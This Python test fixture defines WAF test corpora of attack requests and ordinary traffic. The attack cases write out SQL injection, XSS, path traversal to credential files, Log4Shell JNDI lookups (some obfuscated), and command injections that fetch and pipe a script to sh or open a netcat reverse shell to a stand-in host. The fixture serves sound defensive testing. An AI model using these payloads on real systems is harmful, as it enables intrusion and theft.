"""The WAF test corpora: attacks the ``waf`` policy must stop at paranoia level 1, and ordinary
API, browser, form and upload traffic it must let through untouched.

Each case is a request as a client sends it (target as written on the request line); the
path part of every target is appended to a route prefix by the tests."""

from __future__ import annotations

import json
from dataclasses import dataclass, field

BROWSER = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-GB,en;q=0.7,fr;q=0.3"),
    ("Accept-Encoding", "gzip, deflate, br"),
]
API_CLIENT = [("User-Agent", "shop-client/2.3 (python-requests/2.32)"), ("Accept", "*/*")]
JSON_TYPE = ("Content-Type", "application/json")
FORM_TYPE = ("Content-Type", "application/x-www-form-urlencoded")


@dataclass(frozen=True)
class Case:
    id: str
    kind: str  # what it is (attacks: the attack class)
    method: str
    target: str
    headers: list[tuple[str, str]] = field(default_factory=lambda: list(API_CLIENT))
    body: bytes = b""


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _multipart(boundary: str, parts: list[tuple[str, str | None, str, bytes]]) -> bytes:
    """(field name, file name or None, content type, content) parts."""
    out = b""
    for name, filename, ctype, content in parts:
        disposition = f'form-data; name="{name}"' + (
            f'; filename="{filename}"' if filename else "")
        out += (f"--{boundary}\r\nContent-Disposition: {disposition}\r\n"
                f"Content-Type: {ctype}\r\n\r\n").encode() + content + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


_BOUNDARY = "----propylon-test-boundary-7MA4YWxkTrZu0gW"
_MULTIPART = ("Content-Type", f"multipart/form-data; boundary={_BOUNDARY}")
_PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00"
        b"\x00\x1f\xf3\xffa" + bytes(range(256)) * 8)

ATTACKS: list[Case] = [
    # SQL injection
    Case("sqli-tautology", "sqli", "GET", "/search?q=1%27%20OR%20%271%27%3D%271"),
    Case("sqli-union", "sqli", "GET",
         "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
    Case("sqli-sleep", "sqli", "GET", "/items?id=1%20AND%20SLEEP(5)--%20-"),
    Case("sqli-json", "sqli", "POST", "/login", [*API_CLIENT, JSON_TYPE],
         _json({"user": "admin' --", "password": "x' OR 1=1 --"})),
    Case("sqli-form", "sqli", "POST", "/login", [*API_CLIENT, FORM_TYPE],
         b"user=admin&password=%27%20or%20%271%27%3D%271%27%20--"),
    Case("sqli-cookie", "sqli", "GET", "/account",
         [*API_CLIENT, ("Cookie", "session=abc; pref=1' UNION SELECT password FROM users--")]),
    # cross-site scripting
    Case("xss-script", "xss", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    Case("xss-img-onerror", "xss", "GET", "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    Case("xss-json", "xss", "POST", "/comments", [*API_CLIENT, JSON_TYPE],
         _json({"text": "<svg/onload=alert(1)>", "author": "eve"})),
    Case("xss-form", "xss", "POST", "/comments", [*API_CLIENT, FORM_TYPE],
         b"text=%3Ciframe%20src%3Djavascript%3Aalert(1)%3E&author=eve"),
    # path traversal
    Case("traversal-query", "traversal", "GET", "/files?name=../../../../etc/passwd"),
    Case("traversal-encoded", "traversal", "GET",
         "/files?name=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    # refused by the listener's path normalization (400) before any policy runs
    Case("traversal-path", "traversal", "GET", "/static/..%2f..%2f..%2fetc%2fshadow"),
    Case("traversal-windows", "traversal", "GET",
         "/download?file=..%5c..%5c..%5cwindows%5cwin.ini"),
    # command injection
    Case("cmdi-semicolon", "cmdi", "GET", "/ping?host=127.0.0.1;cat%20/etc/passwd"),
    Case("cmdi-pipe", "cmdi", "GET", "/ping?host=127.0.0.1%7Cwhoami"),
    Case("cmdi-subshell-json", "cmdi", "POST", "/convert", [*API_CLIENT, JSON_TYPE],
         _json({"file": "report.pdf; wget http://203.0.113.9/x.sh -O- | sh"})),
    Case("cmdi-backticks-form", "cmdi", "POST", "/convert", [*API_CLIENT, FORM_TYPE],
         b"file=a.txt%60nc%20-e%20/bin/sh%20203.0.113.9%204444%60"),
    # Log4Shell, plain and obfuscated, in headers and bodies
    Case("log4shell-user-agent", "log4shell", "GET", "/",
         [("User-Agent", "${jndi:ldap://203.0.113.9:1389/a}"), ("Accept", "*/*")]),
    Case("log4shell-header", "log4shell", "GET", "/api/v1/health",
         [*API_CLIENT, ("X-Api-Version", "${jndi:rmi://203.0.113.9/obj}")]),
    Case("log4shell-lower", "log4shell", "GET", "/",
         [*API_CLIENT, ("X-Device-Id", "${${lower:j}ndi:ldap://203.0.113.9/a}")]),
    Case("log4shell-default-values", "log4shell", "GET", "/",
         [*API_CLIENT, ("Referer", "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://203.0.113.9/a}")]),
    Case("log4shell-env-nested", "log4shell", "GET", "/",
         [*API_CLIENT, ("X-Trace", "${j${env:NOTHING:-n}di:dns://203.0.113.9/x}")]),
    Case("log4shell-mixed-case", "log4shell", "GET", "/",
         [*API_CLIENT, ("X-Client", "${JnDi:LdAp://203.0.113.9/a}")]),
    Case("log4shell-json-body", "log4shell", "POST", "/users", [*API_CLIENT, JSON_TYPE],
         _json({"name": "${jndi:ldap://203.0.113.9/a}", "email": "x@example.com"})),
    Case("log4shell-form-body", "log4shell", "POST", "/users", [*API_CLIENT, FORM_TYPE],
         b"name=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"),
    Case("log4shell-query-encoded", "log4shell", "GET",
         "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"),
    Case("log4shell-cookie", "log4shell", "GET", "/",
         [*API_CLIENT, ("Cookie", "id=${jndi:ldap://203.0.113.9/c}")]),
    # scanners
    Case("scanner-sqlmap", "scanner", "GET", "/",
         [("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), ("Accept", "*/*")]),
    Case("scanner-nikto", "scanner", "GET", "/",
         [("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
          ("Accept", "*/*")]),
    Case("scanner-nmap", "scanner", "GET", "/",
         [("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                         "https://nmap.org/book/nse.html)"), ("Accept", "*/*")]),
]

BENIGN: list[Case] = [
    Case("get-root", "browser", "GET", "/", list(BROWSER)),
    Case("get-page-query", "api", "GET", "/api/items?page=2&per_page=50&sort=-created_at"),
    Case("get-search-words", "browser", "GET",
         "/search?q=what+is+the+best+coffee+grinder%3F&lang=en", list(BROWSER)),
    Case("get-filters", "api", "GET",
         "/api/orders?status=shipped,delivered&since=2024-05-01T00:00:00Z&limit=20"),
    Case("get-bearer", "api", "GET", "/api/me",
         [*API_CLIENT, ("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9."
                                         "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkFkYSJ9.c2lnbmF0dXJl")]),
    Case("get-cookies", "browser", "GET", "/cart",
         [*BROWSER, ("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; "
                               "consent=analytics%3Dfalse%26ads%3Dfalse")]),
    Case("head", "api", "HEAD", "/api/items/42"),
    Case("delete", "api", "DELETE", "/api/items/42"),
    Case("json-create", "api", "POST", "/api/orders", [*API_CLIENT, JSON_TYPE], _json({
        "customer": {"name": "Ada Lovelace", "email": "ada@example.com",
                     "phone": "+44 20 7946 0958"},
        "items": [{"sku": "COF-001", "qty": 2, "price": 12.5},
                  {"sku": "TEA-042", "qty": 1, "price": 7.25}],
        "note": "Please leave the parcel at the back door, thanks!",
        "gift": False, "coupon": None, "tags": ["express", "fragile"],
    })),
    Case("json-update-unicode", "api", "PUT", "/api/users/7", [*API_CLIENT, JSON_TYPE], _json({
        "displayName": "Zoë Ångström", "city": "Zürich", "bio": "Café owner — 10 years",
        "website": "https://example.com/about?ref=profile", "languages": ["de", "fr", "en"],
    })),
    Case("json-patch", "api", "PATCH", "/api/users/7",
         [*API_CLIENT, ("Content-Type", "application/merge-patch+json")],
         _json({"settings": {"notifications": {"email": True, "sms": False}}})),
    Case("json-list", "api", "POST", "/api/bulk", [*API_CLIENT, JSON_TYPE], _json(
        [{"id": i, "name": f"item {i}", "price": i * 1.5, "active": i % 2 == 0}
         for i in range(40)])),
    Case("form-contact", "form", "POST", "/contact", [*BROWSER, FORM_TYPE],
         b"name=Jane+Doe&email=jane.doe%40example.com&subject=Order+question"
         b"&message=Hi%2C+my+order+%2312345+hasn%27t+arrived+yet.+Could+you+check%3F+Thanks"),
    Case("form-login", "form", "POST", "/login", [*BROWSER, FORM_TYPE],
         b"username=jane.doe&password=Correct-Horse-Battery-Staple-42&remember=on"),
    Case("form-search", "form", "POST", "/search", [*BROWSER, FORM_TYPE],
         b"q=red+shoes+size+42&min_price=20&max_price=80&brand=acme&brand=globex"),
    Case("upload-text", "upload", "POST", "/upload", [*BROWSER, _MULTIPART], _multipart(
        _BOUNDARY, [("title", None, "text/plain", b"Quarterly report"),
                    ("file", "notes.txt", "text/plain",
                     b"Meeting notes\nAgenda: budget, hiring, roadmap.\nNext: 2024-06-01\n")])),
    Case("upload-image", "upload", "POST", "/upload", [*BROWSER, _MULTIPART], _multipart(
        _BOUNDARY, [("avatar", "me.png", "image/png", _PNG)])),
    Case("upload-json-file", "upload", "POST", "/upload", [*BROWSER, _MULTIPART], _multipart(
        _BOUNDARY, [("description", None, "text/plain", b"settings backup"),
                    ("file", "settings.json", "application/json",
                     _json({"theme": "dark", "volume": 0.8, "shortcuts": {"save": "Ctrl+S"}})),
                    ])),
    Case("octet-stream", "api", "PUT", "/api/blobs/1",
         [*API_CLIENT, ("Content-Type", "application/octet-stream")], bytes(range(256)) * 16),
]

# Text that CRS rule 932130 (Unix shell expression) flags at paranoia 1: what a policy's
# ruleExclusions are for, on a route whose clients send such templates.
TEMPLATE_TEXT = Case("json-template-text", "api", "POST", "/api/templates",
                     [*API_CLIENT, JSON_TYPE],
                     _json({"subject": "Hello", "body": "Your order ${orderId} ships today."}))
